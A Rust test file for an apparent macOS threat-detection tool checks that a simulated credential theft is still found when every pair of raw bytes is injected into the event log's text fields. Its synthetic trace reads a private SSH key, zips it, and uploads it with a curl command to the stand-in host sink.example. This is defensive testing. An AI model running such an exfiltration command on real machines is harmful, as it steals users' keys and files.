//! All 65,536 pairs of bytes in the names of a thief: whatever a record has in its texts, the theft is found.

use std::collections::BTreeSet;
use std::fs;

use crate::program::{hunt_json, render};

/// Pairs in each name, so that 1,024 Macs have all of them.
const PAIRS: usize = 64;
const MACS: usize = 65_536 / PAIRS;

/// What stands in a trace for the pairs of a Mac.
const MARK: &str = "zqpairszq";

/// A Mac on which program, signing id, arguments, document and archive bear the mark; `curl`, which the thief starts, says where to.
fn theft(mac: usize) -> String {
    format!(
        "host mac{mac:04}\n\
         process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh\n\
         10:00:00.000 fork zsh -> 500\n\
         10:00:00.010 exec 500 adhoc {MARK} /private/tmp/{MARK} : /private/tmp/{MARK} {MARK}.zip\n\
         10:00:05.000 read 500 /Users/ana/Documents/{MARK}.docx size=310000\n\
         10:00:05.010 read 500 /Users/ana/.ssh/id_ed25519 size=400\n\
         10:00:06.000 create 500 /private/tmp/{MARK}.zip\n\
         10:00:07.000 close 500 /private/tmp/{MARK}.zip modified size=300000\n\
         10:00:08.000 fork 500 -> 501\n\
         10:00:08.010 exec 501 platform com.apple.curl /usr/bin/curl : curl -A {MARK} -T /private/tmp/{MARK}.zip https://sink.example/\n\
         10:00:08.020 read 501 /private/tmp/{MARK}.zip size=300000\n"
    )
}

/// The pairs of a Mac, as a writer of JSON writes them who knows nothing of UTF-8.
fn pairs(mac: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for pair in mac * PAIRS..(mac + 1) * PAIRS {
        out.push(b'-');
        for byte in u16::try_from(pair).unwrap().to_be_bytes() {
            match byte {
                b'"' | b'\\' => out.extend([b'\\', byte]),
                0..0x20 => out.extend(format!("\\u{byte:04x}").into_bytes()),
                byte => out.push(byte),
            }
        }
    }
    out
}

fn replaced(bytes: &[u8], with: &[u8]) -> Vec<u8> {
    let (mut out, mut rest) = (Vec::new(), bytes);
    while let Some(at) = rest.windows(MARK.len()).position(|part| part == MARK.as_bytes()) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(with);
        rest = &rest[at + MARK.len()..];
    }
    out.extend_from_slice(rest);
    out
}

#[test]
fn no_pair_of_bytes_hides_a_theft() {
    let folder = tempfile::tempdir().unwrap();
    render(&(0..MACS).map(theft).collect::<String>(), folder.path());
    let mut marks = 0;
    for mac in 0..MACS {
        let path = folder.path().join(format!("mac{mac:04}/es.ndjson"));
        let text = fs::read(&path).unwrap();
        let spoiled = replaced(&text, &pairs(mac));
        marks += usize::from(spoiled.len() > text.len() + 8 * PAIRS * 3);
        fs::write(path, spoiled).unwrap();
    }
    assert_eq!(marks, MACS, "every Mac has its pairs in many texts");
    let findings = hunt_json(folder.path(), &[]);
    let robbed: BTreeSet<String> = findings
        .iter()
        .filter(|finding| {
            finding["destinations"].to_string().contains("sink.example") && finding["steps"].to_string().contains("id_ed25519")
        })
        .map(|finding| finding["host"].as_str().unwrap().to_owned())
        .collect();
    let missing: Vec<String> = (0..MACS).map(|mac| format!("mac{mac:04}")).filter(|mac| !robbed.contains(mac)).collect();
    assert!(missing.is_empty(), "{} of {MACS}: {:?}\n{:?}", missing.len(), missing.first(), findings.first());
}
